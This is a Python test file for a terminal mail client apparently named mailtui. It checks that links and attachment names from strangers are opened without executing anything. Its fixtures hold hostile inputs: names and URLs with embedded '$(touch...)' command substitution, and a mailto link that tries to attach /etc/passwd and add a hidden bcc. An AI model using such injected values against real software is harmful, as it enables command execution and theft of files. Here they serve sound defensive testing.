"""Links and attachments from a stranger are opened without running anything of theirs.

- open_command gets the file or link as one whole argument (`$(…)` in a name stays text);
- an opened attachment lives in a private (0700) directory, removed when the app exits;
- a `mailto:` link opens mailtui's own composer with To, Cc, Subject and Body only, and
  goes through the editor and review screen like any message (never `xdg-open`, which
  would pass `attach=/path` to the desktop's mail client).
"""

from __future__ import annotations

import stat
import warnings
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from textual.widgets import TextArea

from tests.compose.smtpd import SmtpServer
from tests.support import mailgen
from tests.support.dovecot import Dovecot, MailUser
from tests.ui.helpers import NOW, make_app, ready, screen_text, wait_for, wait_reader

HOSTILE_NAME = "$(touch${IFS}PWNED-name).txt"
HOSTILE_LINK = "https://example.org/$(touch${IFS}PWNED-link)"
MAILTO = (
    "mailto:bob@example.com,%22Eve%20Example%22%20%3Ceve@example.com%3E"
    "?subject=Hi%20there%1B%5B31m&cc=carol@example.com&bcc=spy@evil.example"
    "&body=Line%201%0D%0ALine%202&attach=/etc/passwd&attachment=/etc/passwd"
    "&file=/etc/passwd&X-Mailer=evil"
)


@pytest.fixture(autouse=True)
def private_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The built-in editor, the outbox in the test's own data dir, and the test's
    directory as the cwd (where an injected `touch PWNED` would land)."""
    monkeypatch.delenv("EDITOR", raising=False)
    monkeypatch.delenv("VISUAL", raising=False)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg-data"))
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def smtp() -> Iterator[SmtpServer]:
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Requiring AUTH while not requiring TLS")
        server = SmtpServer(mode="plain").start()
        try:
            yield server
        finally:
            server.stop()


@pytest.fixture
def hostile_user(dovecot: Dovecot) -> MailUser:
    """INBOX: a hostile link and attachment name (uid 1); a mailto: link (uid 2)."""
    user = dovecot.add_user()
    first = mailgen.make_message(
        subject="Invoice",
        body="",
        html=f'<p><a href="{HOSTILE_LINK}">the invoice</a></p>',
        attachments=[(HOSTILE_NAME, "text/plain", b"attached text\n")],
        date=NOW - timedelta(minutes=2),
    )
    second = mailgen.make_message(
        subject="Write to us",
        body="",
        html=f'<p><a href="{MAILTO}">write to us</a></p>',
        date=NOW - timedelta(minutes=1),
    )
    mailgen.write_maildir(
        user.maildir,
        "INBOX",
        [
            mailgen.from_bytes(first, internaldate=NOW - timedelta(minutes=2)),
            mailgen.from_bytes(second, internaldate=NOW - timedelta(minutes=1)),
        ],
    )
    mailgen.write_maildir(user.maildir, "Sent", [])
    return user


def _logging_opener(log: Path) -> str:
    """An open_command that appends its one argument to `log` (through a shell, "$1")."""
    return f'sh -c \'printf "%s\\n" "$1" >> {log}\' sh {{}}'


async def test_hostile_names_reach_open_command_as_text_and_temp_dirs_go_at_exit(
    hostile_user: MailUser, dovecot: Dovecot, tmp_path: Path
) -> None:
    log = tmp_path / "opened.log"
    ui = {"mark_read_delay": -1, "open_command": _logging_opener(log)}
    app = make_app(dovecot, hostile_user, tmp_path, ui=ui)
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot, app)
        app.main.messages.move_to(app.main.messages.index_of(1))
        await wait_reader(pilot, app, 1)
        # The attachment: saved in a private directory, its name handed over as text.
        await pilot.press("A")
        await wait_for(pilot, lambda: "Attachments" in screen_text(app))
        await pilot.press("o")
        await wait_for(pilot, lambda: log.exists() and log.read_text(), what="the opener")
        opened = Path(log.read_text().splitlines()[0])
        assert opened.name == HOSTILE_NAME
        assert opened.read_bytes() == b"attached text\n"
        assert stat.S_IMODE(opened.parent.stat().st_mode) == 0o700
        # The link: one argument too.
        await pilot.press("L")
        await wait_for(pilot, lambda: "Links and addresses" in screen_text(app))
        await pilot.press("o")
        await wait_for(pilot, lambda: len(log.read_text().splitlines()) == 2, what="the link")
        assert log.read_text().splitlines()[1] == HOSTILE_LINK
        assert not list(tmp_path.glob("PWNED*")) and not list(Path.cwd().glob("PWNED*"))
    # The app has exited: the opened attachment's directory is gone.
    assert not opened.parent.exists()


async def test_mailto_link_opens_our_composer_with_to_cc_subject_body_only(
    hostile_user: MailUser, dovecot: Dovecot, smtp: SmtpServer, tmp_path: Path
) -> None:
    log = tmp_path / "opened.log"
    ui = {"mark_read_delay": -1, "open_command": _logging_opener(log)}
    app = make_app(dovecot, hostile_user, tmp_path, ui=ui, account={"smtp": smtp.table()})
    async with app.run_test(size=(120, 40)) as pilot:
        await ready(pilot, app)
        app.main.messages.move_to(app.main.messages.index_of(2))
        await wait_reader(pilot, app, 2)
        await pilot.press("L")
        await wait_for(pilot, lambda: "Links and addresses" in screen_text(app))
        await pilot.press("o")
        await wait_for(pilot, lambda: app.screen.query(TextArea), what="mailtui's editor")
        text = app.screen.query_one(TextArea).text
        assert "bob@example.com" in text and "Eve Example <eve@example.com>" in text
        assert "Cc: carol@example.com" in text
        assert "Subject: Hi there[31m" in text and "\x1b" not in text
        assert "Line 1\nLine 2" in text
        assert "spy@evil.example" not in text and "passwd" not in text and "evil" not in text
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: "Line 2" in screen_text(app), what="the review screen")
        review = screen_text(app)
        assert "passwd" not in review and "spy@" not in review
        await pilot.press("y")
        await wait_for(pilot, lambda: smtp.messages, timeout=30, what="the SMTP delivery")
        sent = smtp.messages[0]
        assert sorted(sent.rcpt_tos) == [
            "bob@example.com",
            "carol@example.com",
            "eve@example.com",
        ]
        assert b"root:" not in sent.content and b"multipart" not in sent.content.lower()
        assert b"Line 1" in sent.content
    assert not log.exists(), "the mailto: link went to open_command"
